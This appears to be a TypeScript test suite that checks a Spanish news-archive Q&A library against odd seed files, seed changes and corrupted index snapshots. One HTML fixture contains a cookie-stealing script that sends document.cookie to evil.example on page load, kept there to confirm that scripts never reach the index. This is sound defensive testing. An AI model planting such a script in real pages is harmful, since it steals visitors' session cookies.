/**
 * Corpus faults (issue 9, item 2), through the real `openLibrary` in this process (a new openLibrary over
 * the same folders is exactly what a restart does):
 * - odd seed files beside good ones: empty, binary, truncated UTF-8, 50 MB, 10,000 tiny paragraphs,
 *   5,000 quotation marks, HTML with scripts. Each is skipped with a warning or indexed safely, and the
 *   good articles answer as before;
 * - a seed file changed, then deleted, while a library built from it is in use: that library keeps its
 *   index (the refresh happens at the next start, by design), and the next start answers from the new
 *   content, never from the old index;
 * - the index snapshot truncated or corrupted at random offsets, in each of its files: always a clean
 *   rebuild (or, for damage that changes nothing, the identical library), never a wrong answer.
 */
import { cp, mkdir, readdir, readFile, rm, stat, truncate, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { readConfig } from '../../../src/config.js';
import { openLibrary, type Library, type OpenedLibrary } from '../../../src/library.js';
import { recordingLogger, type Logged } from '../recording-logger.js';
import { createRandom } from '../random.js';
import { summarise, type TimeSummary } from '../stats.js';

/** Opens the library as `npm start` does, recording what it logs. */
async function openRecorded(seedsDir: string, indexDir: string, env: Record<string, string> = {}, watch = false): Promise<{ library: OpenedLibrary; logged: Logged[]; ms: number }> {
  const { log, logged } = recordingLogger();
  const started = performance.now();
  const library = await openLibrary(readConfig({ SEEDS_DIR: seedsDir, INDEX_DIR: indexDir, ...env }), log, { watch });
  return { library, logged, ms: performance.now() - started };
}

// ---- Odd seed files ---------------------------------------------------------------------------

interface OddFile {
  file: string;
  what: string;
  bytes(): Buffer;
}

const tinyParagraph = (n: number) => `El pleno votó la moción ${n}.`;

/** Words that appear only inside the script and style blocks of the HTML file: none may reach the index. */
const SCRIPT_MARKERS = ['robarGalletas', 'document.cookie', 'alert(', 'colorOculto'];

const ODD_FILES: OddFile[] = [
  { file: 'odd-empty.txt', what: 'empty', bytes: () => Buffer.alloc(0) },
  { file: 'odd-blank.md', what: 'only whitespace', bytes: () => Buffer.from(' \n\t\n\r\n   \n') },
  { file: 'odd-binary.txt', what: 'binary (random bytes with NULs)', bytes: () => Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)) },
  {
    file: 'odd-truncated-utf8.txt',
    what: 'UTF-8 cut in the middle of a character',
    bytes: () => {
      const text = Buffer.from('Crónica truncada de Ávila\n\nEl alcalde de Ávila explicó que la muralla reabrirá en otoño tras las obras de restauración. Señaló además que ñ');
      return text.subarray(0, text.length - 1);
    },
  },
  { file: 'odd-50mb.txt', what: '50 MB of text', bytes: () => Buffer.alloc(50 * 1024 * 1024, 'Una línea de relleno que se repite sin fin.\n') },
  { file: 'odd-tiny-paragraphs.txt', what: '10,000 tiny paragraphs', bytes: () => Buffer.from(['Diez mil párrafos del pleno', ...Array.from({ length: 10_000 }, (_, i) => tinyParagraph(i + 1))].join('\n\n')) },
  {
    file: 'odd-quotes.txt',
    what: '5,000 quotation marks',
    bytes: () => {
      const marks = ['"', '“', '”', '«', '»', "'"];
      const body = Array.from({ length: 5000 }, (_, i) => `${marks[i % marks.length]}${i % 10 === 0 ? ', dijo Marta Quintanilla. ' : 'cita '}`).join('');
      return Buffer.from(`Comillas sin fin\n\n${body}\n`);
    },
  },
  {
    file: 'odd-scripts.html',
    what: 'HTML with script, style and event-handler tags',
    bytes: () =>
      Buffer.from(`<!doctype html><html lang="es"><head><title>La biblioteca de Valdefresno</title>
<script>function robarGalletas(){ fetch('https://evil.example/?c=' + document.cookie); alert('hola'); }</script>
<style>.colorOculto { color: red }</style></head>
<body onload="robarGalletas()"><article><h1>La biblioteca de Valdefresno</h1>
<p>El Ayuntamiento de Valdefresno inauguró el lunes una biblioteca municipal con doce mil libros, según informó la alcaldesa.</p>
<script type="module">alert(document.cookie)</script><noscript>robarGalletas sin JavaScript</noscript>
<p>La biblioteca abrirá de lunes a sábado y tendrá una sala infantil.</p></article></body></html>`),
  },
];

export interface OddFileOutcome {
  file: string;
  what: string;
  /** "skipped: …" with the warning, or "indexed". */
  outcome: string;
}

export interface OddFilesReport {
  files: OddFileOutcome[];
  buildMs: number;
  restartMs: number;
  restartOrigin: string;
  /** The good articles' answers quote the same passage beside the odd files, and cite no odd file. */
  goodAnswersUnchanged: boolean;
  /** The HTML article's text answers; its scripts never reach an answer. */
  htmlAnswered: boolean;
  scriptLeaks: string[];
  /** Time to answer a question about the 10,000-paragraph file and about the quotation marks (ms). */
  askMs: TimeSummary;
  problems: string[];
}

/**
 * `seedsDir`'s articles plus ODD_FILES, opened twice (build, then restart). `questions` are about the good
 * articles: their answers must match those of the good articles alone.
 */
export async function oddSeedFiles({ seedsDir, workDir, questions }: { seedsDir: string; workDir: string; questions: readonly string[] }): Promise<OddFilesReport> {
  const cleanSeeds = path.join(workDir, 'clean-seeds');
  const oddSeeds = path.join(workDir, 'odd-seeds');
  await rm(workDir, { recursive: true, force: true });
  await cp(seedsDir, cleanSeeds, { recursive: true });
  await cp(seedsDir, oddSeeds, { recursive: true });
  for (const odd of ODD_FILES) await writeFile(path.join(oddSeeds, odd.file), odd.bytes());

  const clean = await openRecorded(cleanSeeds, path.join(workDir, 'clean-index'));
  const built = await openRecorded(oddSeeds, path.join(workDir, 'odd-index'));
  const restarted = await openRecorded(oddSeeds, path.join(workDir, 'odd-index'));
  const problems: string[] = [];

  const indexed = new Set(built.library.sources().map((source) => source.id));
  const files = ODD_FILES.map(({ file, what }): OddFileOutcome => {
    const warning = built.logged.find((entry) => entry.level === 'warn' && entry.fields.file === file);
    const id = file.slice(0, -path.extname(file).length);
    return { file, what, outcome: indexed.has(id) ? `indexed${warning ? ` (warning: ${warning.message})` : ''}` : warning ? warning.message : 'absent without a warning' };
  });
  for (const outcome of files) if (outcome.outcome === 'absent without a warning') problems.push(`${outcome.file} vanished without a warning`);

  // IDF moves with the corpus, so "see also" citations may come and go; the quoted answer and its source may not.
  const goodArticles = new Set(clean.library.sources().map((source) => source.id));
  let goodAnswersUnchanged = true;
  for (const question of questions) {
    const [expected, actual] = await Promise.all([clean.library.ask(question), built.library.ask(question)]);
    const sameQuote = expected.refused === actual.refused && expected.citations[0]?.excerpt === actual.citations[0]?.excerpt;
    const onlyGoodSources = actual.citations.every((citation) => goodArticles.has(citation.articleId));
    if (!sameQuote || !onlyGoodSources) {
      goodAnswersUnchanged = false;
      problems.push(`"${question}" is answered ${sameQuote ? 'from an odd file' : 'differently'} beside the odd files`);
    }
  }

  const html = await built.library.ask('¿Qué inauguró el Ayuntamiento de Valdefresno?');
  const htmlAnswered = !html.refused && html.citations.some((citation) => citation.articleId === 'odd-scripts');
  if (!htmlAnswered) problems.push('the HTML article with scripts was not found by its own text');
  const probes = [html, await built.library.ask('¿Qué hace robarGalletas con document.cookie?'), await built.library.ask('colorOculto alert')];
  const scriptLeaks = probes.flatMap((result) => SCRIPT_MARKERS.filter((marker) => [result.answer, ...result.citations.map((citation) => citation.excerpt)].some((text) => text.includes(marker))));
  problems.push(...scriptLeaks.map((marker) => `script content "${marker}" reached an answer`));

  const askTimes: number[] = [];
  for (const question of ['¿Qué votó el pleno en la moción 5000?', '¿Qué dijo Marta Quintanilla?', '¿Qué reabrirá en Ávila?']) {
    const started = performance.now();
    await built.library.ask(question);
    askTimes.push(performance.now() - started);
  }
  const started = performance.now();
  built.library.quote('Marta Quintanilla');
  askTimes.push(performance.now() - started);

  if (restarted.library.status.origin !== 'snapshot') problems.push(`the restart ${restarted.library.status.origin} its index instead of restoring it`);
  if (JSON.stringify(restarted.library.sources()) !== JSON.stringify(built.library.sources())) problems.push('the restart lists other sources');
  return {
    files,
    buildMs: Math.round(built.ms),
    restartMs: Math.round(restarted.ms),
    restartOrigin: restarted.library.status.origin,
    goodAnswersUnchanged,
    htmlAnswered,
    scriptLeaks,
    askMs: summarise(askTimes),
    problems,
  };
}

// ---- A seed file changed or deleted -----------------------------------------------------------

const CHANGING_FILE = 'zz-festival.txt';
const FESTIVAL_QUESTION = '¿Cuándo se celebrará el festival de otoño de Villaverde del Río?';
const festivalArticle = (when: string, where: string) =>
  `El festival de otoño de Villaverde del Río cambia de fecha\n\n3 de septiembre de 2024\n\nEl Ayuntamiento de Villaverde del Río anunció que el festival de otoño se celebrará el ${when} en ${where}, según explicó la concejala de Cultura.\n\nLa organización espera la visita de miles de personas durante el fin de semana.\n`;
const VERSIONS = {
  first: { text: festivalArticle('12 de marzo', 'la plaza mayor'), marker: 'marzo' },
  second: { text: festivalArticle('27 de octubre', 'el puerto'), marker: 'octubre' },
};

export interface SeedChangeStep {
  step: string;
  origin: string;
  /** Which version of the changing article the answer comes from: "first", "second" or "none". */
  answeredFrom: string;
  expected: string;
  /** For a change while running: ms from the file written to the running library answering from it. */
  appliedMs?: number;
}

export interface SeedChangeReport {
  steps: SeedChangeStep[];
  /** Steps whose answer came from another version than the files held at that start. */
  staleAnswers: number;
  problems: string[];
}

/** Which version of the festival article an answer quotes, if any. */
async function versionAnswering(library: Library): Promise<string> {
  const result = await library.ask(FESTIVAL_QUESTION);
  const texts = [result.answer, ...result.citations.map((citation) => citation.excerpt)].join('\n');
  const found = Object.entries(VERSIONS).filter(([, version]) => texts.includes(version.marker)).map(([name]) => name);
  return found.length === 0 ? 'none' : found.join('+');
}

/** How long a running library may take to apply a seed change (it follows the folder within seconds; generous for a loaded machine). */
const LIVE_WITHIN_MS = 20_000;
/** A running library saves its snapshot a second after the last change; a restart before that would rebuild. */
const SAVED_AFTER_MS = 3000;

/**
 * The changing article written, changed, deleted and restored while a library opened as the bot opens
 * it (watching the seeds folder) runs, and a fresh start after each step: the running library must
 * answer from the file as it is within seconds, and each start from the snapshot it saved.
 */
export async function seedFileChanges({ seedsDir, workDir }: { seedsDir: string; workDir: string }): Promise<SeedChangeReport> {
  const seeds = path.join(workDir, 'seeds');
  const indexDir = path.join(workDir, 'index');
  const file = path.join(seeds, CHANGING_FILE);
  await rm(workDir, { recursive: true, force: true });
  await cp(seedsDir, seeds, { recursive: true });
  const steps: SeedChangeStep[] = [];
  const check = async (step: string, library: Library, expected: string) =>
    steps.push({ step, origin: library.status.origin, answeredFrom: await versionAnswering(library), expected });
  const restart = async (step: string, expected: string) => check(step, (await openRecorded(seeds, indexDir)).library, expected);
  const live = async (step: string, library: Library, change: () => Promise<void>, expected: string) => {
    const started = performance.now();
    await change();
    let answeredFrom = await versionAnswering(library);
    while (answeredFrom !== expected && performance.now() - started < LIVE_WITHIN_MS) {
      await new Promise((resolve) => setTimeout(resolve, 100));
      answeredFrom = await versionAnswering(library);
    }
    steps.push({ step, origin: 'running', answeredFrom, expected, appliedMs: Math.round(performance.now() - started) });
    await new Promise((resolve) => setTimeout(resolve, SAVED_AFTER_MS));
  };

  await writeFile(file, VERSIONS.first.text);
  const running = (await openRecorded(seeds, indexDir, {}, true)).library;
  await check('first start', running, 'first');
  await live('file changed, while running', running, () => writeFile(file, VERSIONS.second.text), 'second');
  await restart('restart after the change', 'second');
  await restart('restart, nothing changed', 'second');
  await live('file deleted, while running', running, () => rm(file), 'none');
  await restart('restart after the deletion', 'none');
  await live('first version restored, while running', running, () => writeFile(file, VERSIONS.first.text), 'first');
  await restart('restart after restoring the first version', 'first');
  // Its save timer may still run: closed before the caller removes the folder.
  await running.close();

  const problems = steps.filter((step) => step.answeredFrom !== step.expected).map((step) => `${step.step}: answered from "${step.answeredFrom}", expected "${step.expected}"`);
  // A restart restores the snapshot the running library saved.
  for (const step of steps.filter(({ step }) => step.startsWith('restart'))) if (step.origin !== 'snapshot') problems.push(`${step.step}: the index was ${step.origin}, not restored`);
  return { steps, staleAnswers: steps.filter((step) => step.answeredFrom !== step.expected).length, problems };
}

// ---- A damaged snapshot -----------------------------------------------------------------------

type Damage = 'truncate' | 'corrupt';

export interface SnapshotTrial {
  file: string;
  damage: Damage;
  offset: number;
  size: number;
  /** "built" after a detected problem, "snapshot" when the damage went unnoticed or hit a part a start can do without (OPTIONAL_PARTS). */
  origin: string;
  warned: boolean;
  sameAnswers: boolean;
}

export interface SnapshotDamageReport {
  trials: number;
  rebuilt: number;
  /** Damage that went unnoticed; acceptable only when the answers are identical (never for a truncation). */
  restoredIdentical: number;
  wrongAnswers: number;
  /** Failures to open at all. */
  crashes: number;
  /** Trials per snapshot file kind (manifest, records of each part, arrays). */
  byFile: Record<string, { trials: number; rebuilt: number }>;
  /** After a rebuild, the next start restores the new snapshot. */
  resavedAndRestored: boolean;
  /** A save interrupted half-way (partial generation folder, partial temporary manifest) beside a good snapshot. */
  interruptedSave: string;
  problems: string[];
}

const MANIFEST = 'hemeroteca-snapshot.json';

/** What a library answers, as one comparable string: sources, several questions, a quote and the actors. */
async function fingerprint(library: Library, questions: readonly string[], actor: string): Promise<string> {
  const answers = [];
  for (const question of questions) answers.push(await library.ask(question));
  return JSON.stringify({ sources: library.sources(), answers, quote: library.quote(actor), actors: library.actors() });
}

/** The snapshot's files, relative to the index folder: the manifest first, then every part file. */
async function snapshotFiles(indexDir: string): Promise<string[]> {
  const manifest = JSON.parse(await readFile(path.join(indexDir, MANIFEST), 'utf8')) as { generation: string };
  const parts = (await readdir(path.join(indexDir, manifest.generation))).sort();
  return [MANIFEST, ...parts.map((part) => path.join(manifest.generation, part))];
}

export async function damagedSnapshots({ seedsDir, workDir, trials, seed, questions, actor }: { seedsDir: string; workDir: string; trials: number; seed: number; questions: readonly string[]; actor: string }): Promise<SnapshotDamageReport> {
  const seeds = path.join(workDir, 'seeds');
  const indexDir = path.join(workDir, 'index');
  const pristine = path.join(workDir, 'pristine-index');
  await rm(workDir, { recursive: true, force: true });
  await cp(seedsDir, seeds, { recursive: true });
  const reference = await fingerprint((await openRecorded(seeds, indexDir)).library, questions, actor);
  await cp(indexDir, pristine, { recursive: true });
  const files = await snapshotFiles(indexDir);
  const random = createRandom(seed);
  const results: SnapshotTrial[] = [];
  const problems: string[] = [];
  let crashes = 0;
  let resavedAndRestored = true;

  for (let trial = 0; trial < trials; trial++) {
    await rm(indexDir, { recursive: true, force: true });
    await cp(pristine, indexDir, { recursive: true });
    const file = files[trial % files.length]!;
    const cycleDamage: Damage = Math.floor(trial / files.length) % 2 === 0 ? 'truncate' : 'corrupt';
    const target = path.join(indexDir, file);
    const { size } = await stat(target);
    const offset = size === 0 ? 0 : random.int(size);
    // An empty part (no warnings, say) cannot be cut shorter: it is damaged by giving it a byte instead.
    const damage: Damage = size === 0 ? 'corrupt' : cycleDamage;
    await damageFile(target, damage, offset, random);
    try {
      const opened = await openRecorded(seeds, indexDir);
      const sameAnswers = (await fingerprint(opened.library, questions, actor)) === reference;
      const warned = opened.logged.some((entry) => entry.message.startsWith('index snapshot is damaged') || entry.message.startsWith('seeds or settings changed'));
      results.push({ file: kindOf(file), damage, offset, size, origin: opened.library.status.origin, warned, sameAnswers });
      if (!sameAnswers) problems.push(`${damage} ${file} at ${offset}/${size}: the answers changed (${opened.library.status.origin})`);
      // A part a start can do without is noticed by its own note, the rest of the snapshot restored (OPTIONAL_PARTS).
      const optionalNote = OPTIONAL_PARTS.get(kindOf(file).replace(/\.[^.]+$/u, ''));
      const noticed = opened.library.status.origin === 'built' || (optionalNote !== undefined && opened.logged.some((entry) => entry.message.startsWith(optionalNote)));
      if (damage === 'truncate' && !noticed) problems.push(`truncated ${file} at ${offset}/${size} was not noticed`);
      // Every few rebuilds: the snapshot it saved must restore, whole and identical.
      if (opened.library.status.origin === 'built' && trial % 5 === 0) {
        const again = await openRecorded(seeds, indexDir);
        const restored = again.library.status.origin === 'snapshot' && (await fingerprint(again.library, questions, actor)) === reference;
        if (!restored) {
          resavedAndRestored = false;
          problems.push(`after rebuilding from a damaged ${file}, the next start did not restore an identical snapshot`);
        }
      }
    } catch (error) {
      crashes++;
      problems.push(`${damage} ${file} at ${offset}/${size}: openLibrary threw ${error instanceof Error ? error.message : String(error)}`);
    }
  }

  const interruptedSave = await interruptedSaveOutcome({ seeds, indexDir, pristine, reference, questions, actor });
  if (interruptedSave !== 'restored the complete snapshot') problems.push(`interrupted save: ${interruptedSave}`);

  const byFile: SnapshotDamageReport['byFile'] = {};
  for (const result of results) {
    const entry = (byFile[result.file] ??= { trials: 0, rebuilt: 0 });
    entry.trials++;
    if (result.origin === 'built') entry.rebuilt++;
  }
  return {
    trials,
    rebuilt: results.filter((result) => result.origin === 'built').length,
    restoredIdentical: results.filter((result) => result.origin === 'snapshot' && result.sameAnswers).length,
    wrongAnswers: results.filter((result) => !result.sameAnswers).length,
    crashes,
    byFile,
    resavedAndRestored,
    interruptedSave,
    problems,
  };
}

/** Truncates the file at `offset`, or changes the byte there to another value. */
async function damageFile(file: string, damage: Damage, offset: number, random: ReturnType<typeof createRandom>): Promise<void> {
  if (damage === 'truncate') return truncate(file, offset);
  const bytes = await readFile(file);
  if (bytes.length === 0) return writeFile(file, 'x');
  bytes[offset] = (bytes[offset]! + 1 + random.int(255)) % 256;
  return writeFile(file, bytes);
}

/** "manifest", "articles.jsonl", "index.bin"…: the kind of a snapshot file, without its generation folder. */
/**
 * The snapshot's parts a start can do without, by name, with the start of the note logged when one is damaged: the saved
 * quote book is made again when first wanted and the rest of the snapshot is restored (src/library.ts, persist/saved-quote-book.ts).
 */
const OPTIONAL_PARTS: ReadonlyMap<string, string> = new Map([['book', "the snapshot's quote book cannot be used"]]);

function kindOf(file: string): string {
  return file === MANIFEST ? 'manifest' : path.basename(file);
}

/**
 * A process killed while saving a new snapshot leaves a partial generation folder and a partial
 * temporary manifest beside the last complete snapshot: the next start must restore that one.
 */
async function interruptedSaveOutcome({ seeds, indexDir, pristine, reference, questions, actor }: { seeds: string; indexDir: string; pristine: string; reference: string; questions: readonly string[]; actor: string }): Promise<string> {
  await rm(indexDir, { recursive: true, force: true });
  await cp(pristine, indexDir, { recursive: true });
  const [, firstPart] = await snapshotFiles(indexDir);
  const partial = path.join(indexDir, 'snapshot-000000000000');
  await mkdir(partial);
  const half = await readFile(path.join(indexDir, firstPart!));
  await writeFile(path.join(partial, path.basename(firstPart!)), half.subarray(0, half.length >> 1));
  const manifest = await readFile(path.join(indexDir, MANIFEST));
  await writeFile(path.join(indexDir, `${MANIFEST}.000000000000.tmp`), manifest.subarray(0, manifest.length >> 1));
  const opened = await openRecorded(seeds, indexDir);
  if (opened.library.status.origin !== 'snapshot') return `the index was ${opened.library.status.origin} instead of restored`;
  return (await fingerprint(opened.library, questions, actor)) === reference ? 'restored the complete snapshot' : 'restored a different library';
}
